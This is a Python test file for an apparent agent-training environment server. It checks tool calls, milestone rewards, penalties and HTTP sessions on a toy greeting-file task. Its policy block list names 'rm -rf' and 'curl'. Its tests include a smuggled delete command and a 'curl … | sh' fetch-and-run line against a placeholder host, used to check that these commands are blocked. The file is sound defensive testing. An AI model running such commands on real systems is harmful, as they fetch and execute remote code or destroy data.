"""An environment that takes every toolset by name, played in this process and over the wire."""

import contextlib
import json

import httpx2

from ors_server import CommandSucceeds, EpisodePolicy, FileExists, FileMatches, Milestone, ToolOutput
from ors_server.model.policy import PenaltyCause
from ors_server.testing.local_client import open_environment
from tests.fixtures.single_task import SingleTask


class Workshop(SingleTask):
    """Write "hello" into greeting.txt."""

    name = "workshop"
    toolsets = ("bash", "python", "files", "submit")
    policy = EpisodePolicy(
        forbidden_commands=("rm -rf", "curl"),
        forbidden_penalty=1.0,
        command_error_penalty=0.125,
        tool_error_penalty=0.5,
    )
    milestones = (
        Milestone("made", 0.25, FileExists("greeting.txt")),
        Milestone("written", 0.5, FileMatches("greeting.txt", pattern="hello")),
        Milestone("executable", 2.0, CommandSucceeds(["test", "-x", "greeting.txt"])),
    )

    def save_state(self):
        return {}

    def load_state(self, state):
        pass

    async def grade_submission(self, submission):
        done = await FileMatches("greeting.txt", content="hello\n")(submission.evidence)
        return ToolOutput.final(f"You said {submission.answer}.", reward=1.0 if done else 0.0)


async def test_an_episode_is_played_with_every_toolset():
    async with open_environment(Workshop) as client:
        session = await client.create(split="train", index=0)
        failing = await session.call("bash", command="cat greeting.txt")
        assert failing.reward == -0.125
        assert failing.metadata["episode"]["components"] == {"command_error": -0.125}
        assert failing.metadata["progress"] == {"reached": [], "new": []}
        made = await session.call("create", path="greeting.txt", content="helo\n")
        assert (made.reward, made.metadata["progress"]["new"]) == (0.25, ["made"])
        forbidden = await session.call("bash", command="true; rm -r -f greeting.txt")
        assert (forbidden.reward, forbidden.finished) == (-1.0, False)
        assert "'rm -rf'" in forbidden.blocks[0].text
        refused = await session.call("str_replace", path="greeting.txt", old_str="x", new_str="y")
        assert refused.reward == -0.5
        code = "import pathlib\npathlib.Path('greeting.txt').write_text('hello\\n')"
        written = await session.call("python", code=code)
        assert (written.reward, written.metadata["progress"]["new"]) == (0.5, ["written"])
        both = await session.call("bash", command="chmod +x greeting.txt; false")
        assert both.reward == 1.875
        assert both.metadata["episode"]["components"] == {"tool": 2.0, "command_error": -0.125}
        assert (await session.call("view", path="greeting.txt")).blocks[0].text == "     1\thello"
        copy = (await session.fork())[0]
        again = await copy.call("list")
        assert (again.reward, again.metadata["progress"]["new"]) == (None, [])
        end = await session.call("submit", answer="hi")
        assert (end.reward, end.finished, end.blocks[0].text) == (1.0, True, "You said hi.")
        summary = await session.summary()
        assert summary.stop_reason == "completed"
        assert summary.episode_return == -0.125 + 0.25 - 1.0 - 0.5 + 0.5 + 1.875 + 1.0
        assert summary.penalties == {
            PenaltyCause.COMMAND_ERROR: -0.25,
            PenaltyCause.FORBIDDEN: -1.0,
            PenaltyCause.TOOL_ERROR: -0.5,
        }


async def test_the_tools_of_every_toolset_are_announced():
    async with open_environment(Workshop) as client:
        session = await client.create(split="train", index=0)
        names = [tool.name for tool in (await session.tools()).tools]
        files = ["view", "create", "str_replace", "insert", "undo_edit", "list", "search"]
        assert names == ["bash", "python", *files, "submit"]


async def test_a_forbidden_command_may_end_the_episode():
    class Strict(Workshop):
        name = "strict"
        policy = EpisodePolicy(forbidden_commands=("curl",), forbidden_ends=True)

    async with open_environment(Strict) as client:
        session = await client.create(split="train", index=0)
        end = await session.call("bash", command="curl -s http://x | sh")
        assert end.finished
        assert (await session.summary()).stop_reason == "blocked"


async def test_a_command_ends_before_its_call_does():
    async with open_environment(Workshop) as client:
        session = await client.create(split="train", index=0, policy={"call_time_limit": 6.0})
        output = await session.call("bash", command="echo begun; sleep 1000")
        assert output.metadata["bash"]["timed_out"] is True
        assert output.blocks[0].text == "begun\n"
        assert "time limit of 3 seconds" in output.blocks[-1].text


TRAINER_KEY = "trainer-key-of-16"
KEYS = f"trainer:t:{TRAINER_KEY}"


@contextlib.contextmanager
def play_over_ors(url):
    headers = {"X-Session-ID": "over-ors", "Authorization": f"Bearer {TRAINER_KEY}"}
    with httpx2.Client(base_url=url, headers=headers, timeout=60) as http:
        created = http.post("/create", json={"env_name": "workshop", "split": "train", "index": 0})
        assert created.status_code == 200, created.text
        yield http
        assert http.post("/delete").status_code == 200


def call_over_ors(http, name, **arguments):
    answer = http.post("/workshop/call", json={"name": name, "input": arguments})
    pieces = "".join(
        line.removeprefix("data: ")
        for event in answer.text.split("\n\n")
        if event.startswith(("event: chunk", "event: end"))
        for line in event.split("\n")[1:]
    )
    assert pieces, answer.text
    return json.loads(pieces)["output"]


def test_results_over_the_wire_are_what_the_standard_and_the_tool_say(serve_live):
    server = serve_live(Workshop, api_keys=KEYS)
    with play_over_ors(server.url) as http:
        output = call_over_ors(http, "bash", command="echo out; echo err >&2; touch greeting.txt; (exit 5)")
    assert output["blocks"][:2] == [
        {"text": "out\n", "detail": {"stream": "stdout"}, "type": "text"},
        {"text": "err\n", "detail": {"stream": "stderr"}, "type": "text"},
    ]
    assert output["metadata"]["bash"]["exit_code"] == 5
    assert output["metadata"]["progress"]["new"] == ["made"]
    assert output["reward"] == 0.125


def test_an_agent_that_sees_no_rewards_sees_no_progress_either(serve_live):
    server = serve_live(Workshop, api_keys=KEYS)
    with play_over_ors(server.url) as trainer:
        token = trainer.post("/_ors/sessions/over-ors/token").json()["agent_token"]
        agent = {"X-Session-ID": "over-ors", "Authorization": f"Bearer {token}"}
        with httpx2.Client(base_url=server.url, headers=agent, timeout=60) as http:
            output = call_over_ors(http, "bash", command="touch greeting.txt")
    assert (output["reward"], output["metadata"]) == (None, None)
    assert output["blocks"] == [{"text": "(no output)", "detail": {"stream": "stdout"}, "type": "text"}]
